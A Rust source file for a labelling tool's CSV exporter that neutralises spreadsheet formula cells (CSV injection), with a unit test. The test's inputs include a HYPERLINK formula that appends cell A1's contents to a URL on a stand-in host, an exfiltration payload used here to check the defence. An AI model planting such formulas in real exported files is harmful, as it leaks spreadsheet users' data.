//! CSV (RFC 4180, a header row, `\n` line ends) that is safe to open in a spreadsheet.
//!
//! **Formula neutralisation.** A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@`
//! as a formula, and some also after a leading tab or carriage return (OWASP "CSV Injection").
//! Every cell that starts with one of those six characters is written with a leading `'`
//! (apostrophe), which spreadsheets show as text; so is a cell that itself starts with `'`, which
//! keeps the rule reversible: a program reading the file gets every value back by removing one
//! leading `'` from each cell that starts with one. Nothing else changes. Numbers Quorum writes
//! (ids, counts, confidences) are never negative, so they are never touched. The JSON Lines,
//! Parquet and TFRecord formats are not changed at all.
//!
//! Columns: `item_id, external_id, data` (JSON text), `label` (text; JSON text for multi
//! choice), `label_index` (choice schemas; a JSON list for multi choice), `confidence, method,
//! votes` (JSON object text), `vote_count, is_gold` (`true`/`false`), `split`, and
//! `rater_votes` (JSON text) when votes are included, and last `label_source` (`consensus`,
//! `adjudicated`, `gold` or `direct`; empty without a label).

use std::borrow::Cow;
use std::io;
use std::sync::Arc;

use crate::export::Encoder;
use crate::export::row::{LabelKind, Row, Shape};
use crate::export::store::Sink;

/// The characters that make a spreadsheet treat a cell as a formula, and the quote itself.
pub const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// A cell as written: with a leading `'` when it would start a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

pub struct Csv {
    out: ::csv::Writer<Sink>,
    shape: Arc<Shape>,
    cells: Vec<String>,
}

impl Csv {
    pub fn new(out: Sink, shape: Arc<Shape>) -> io::Result<Csv> {
        let mut out = ::csv::WriterBuilder::new()
            .terminator(::csv::Terminator::Any(b'\n'))
            .from_writer(out);
        let mut header = vec!["item_id", "external_id", "data", "label"];
        if shape.has_index() {
            header.push("label_index");
        }
        header.extend([
            "confidence",
            "method",
            "votes",
            "vote_count",
            "is_gold",
            "split",
        ]);
        if shape.include_votes {
            header.push("rater_votes");
        }
        // Last, so the columns of earlier snapshots keep their places.
        header.push("label_source");
        out.write_record(&header).map_err(io::Error::other)?;
        Ok(Csv {
            out,
            shape,
            cells: Vec::new(),
        })
    }
}

impl Encoder for Csv {
    fn write(&mut self, row: &Row) -> io::Result<()> {
        let c = &mut self.cells;
        c.clear();
        c.push(row.item_id.to_string());
        c.push(row.external_id.clone());
        c.push(row.data_json.clone());
        c.push(
            row.label
                .as_ref()
                .map(|l| l.text.clone())
                .unwrap_or_default(),
        );
        match (self.shape.kind, &row.label) {
            (LabelKind::Free, _) => {}
            (_, None) => c.push(String::new()),
            (LabelKind::Single, Some(l)) => {
                c.push(l.indices.first().map(|i| i.to_string()).unwrap_or_default())
            }
            (LabelKind::Multi, Some(l)) => {
                c.push(serde_json::to_string(&l.indices).map_err(io::Error::other)?)
            }
        }
        c.push(row.confidence.map(|x| x.to_string()).unwrap_or_default());
        c.push(row.method.clone().unwrap_or_default());
        let votes: serde_json::Map<String, serde_json::Value> = row
            .votes
            .iter()
            .map(|(a, n)| (a.text.clone(), (*n).into()))
            .collect();
        c.push(serde_json::Value::Object(votes).to_string());
        c.push(row.vote_count.to_string());
        c.push(row.is_gold.to_string());
        c.push(
            row.split
                .map(|s| s.as_str().to_string())
                .unwrap_or_default(),
        );
        if self.shape.include_votes {
            let votes: Vec<serde_json::Value> = row
                .rater_votes
                .iter()
                .map(|v| {
                    serde_json::json!({"rater": &*v.rater, "value": v.value.text,
                        "instruction_version": v.instruction_version})
                })
                .collect();
            c.push(serde_json::Value::Array(votes).to_string());
        }
        c.push(
            row.label_source
                .map(|s| s.as_str().to_string())
                .unwrap_or_default(),
        );
        self.out
            .write_record(c.iter().map(|cell| neutralise(cell).into_owned()))
            .map_err(io::Error::other)
    }

    fn finish(self: Box<Self>) -> io::Result<Sink> {
        self.out.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_get_a_quote() {
        for bad in [
            "=HYPERLINK(\"http://x/?\"&A1,\"c\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "'=1",
        ] {
            assert_eq!(neutralise(bad), format!("'{bad}"), "{bad:?}");
        }
        for fine in ["pos", "1.5", "{\"text\":\"=1\"}", " =1", "", "a'"] {
            assert_eq!(neutralise(fine), fine, "{fine:?}");
        }
    }
}
